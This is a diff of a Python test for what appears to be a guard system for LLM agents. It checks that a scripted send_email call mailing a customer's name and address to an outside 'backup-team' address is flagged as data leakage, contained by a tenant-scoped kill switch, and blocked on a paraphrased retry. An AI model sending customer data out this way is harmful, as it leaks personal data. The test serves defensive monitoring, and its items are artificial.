@@ -112,11 +112,11 @@ def test_customer_data_mailed_outside_is_data_leakage_with_a_gdpr_clock(fl: Fire
     tools = [tool("send_email", to="string", subject="string", body="string"), tool("lookup_customer", email="string")]
     c = client(fl)
 
-    def send(to: str, body: str, session: str = "inbox-3") -> object:
+    def send(to: str, body: str, session: str = "inbox-3", tenant: str = "acme") -> object:
         return c.chat.completions.with_raw_response.create(
             model="gpt-4o-mini", messages=[{"role": "user", "content": "Summarise my inbox."}], tools=tools,  # type: ignore[arg-type]
-            extra_headers={**headers, "X-Fireline-Session": session, **scripted(tool_name="send_email", arguments={
-                "to": to, "subject": "Report", "body": body})})
+            extra_headers={**headers, "X-Fireline-Session": session, "X-Fireline-Tenant": tenant,
+                           **scripted(tool_name="send_email", arguments={"to": to, "subject": "Report", "body": body})})
 
     internal = send("ops@acme.example", "Weekly summary: 14 tickets closed.")
     assert internal.parse().choices[0].message.tool_calls  # type: ignore[attr-defined]
@@ -129,18 +129,18 @@ def test_customer_data_mailed_outside_is_data_leakage_with_a_gdpr_clock(fl: Fire
     assert (inc["type"], inc["severity"]) == ("data_leakage", "P0")
     assert parse_time(inc["detected_at"]) - first_bad <= timedelta(seconds=1)
 
-    # Containment is scoped to the incident's session: that session now gets the fallback...
+    # Containment is scoped to the incident's tenant: acme's mail agent now answers the fallback...
     inc = wait_incident(fl, lambda i: i["id"] == inc["id"] and i["contained_at"] is not None)
     with fl.client("viewer") as http:
         controls = http.get("/api/v1/controls", params={"incident_id": inc["id"]}).json()["controls"]
-    assert [(x["kind"], x["scope"]) for x in controls] == [("kill_switch", {"app": "mail-agent", "session": "inbox-3"})]
-    same = send("ops@acme.example", "hello")
+    assert [(x["kind"], x["scope"]) for x in controls] == [("kill_switch", {"app": "mail-agent", "tenant": "acme"})]
+    same = send("ops@acme.example", "hello", session="inbox-9")
     assert not same.parse().choices[0].message.tool_calls  # type: ignore[attr-defined]
     assert controls[0]["id"] in same.headers["x-fireline-contained"]  # type: ignore[attr-defined]
-    # ...and a paraphrased second attempt from another session is caught by the policy (no learned
+    # ...and a paraphrased second attempt for another tenant is caught by the policy (no learned
     # baseline to blind it), linked to the same incident.
     again = send("Mr. Collector <backup-team@proton.example>", "As requested, the list: John Poe, john.poe@yahoo.com",
-                 session="inbox-4")
+                 session="inbox-4", tenant="globex")
     assert not again.parse().choices[0].message.tool_calls  # type: ignore[attr-defined]
     assert "policy:mail-egress" in again.headers["x-fireline-contained"]  # type: ignore[attr-defined]
 
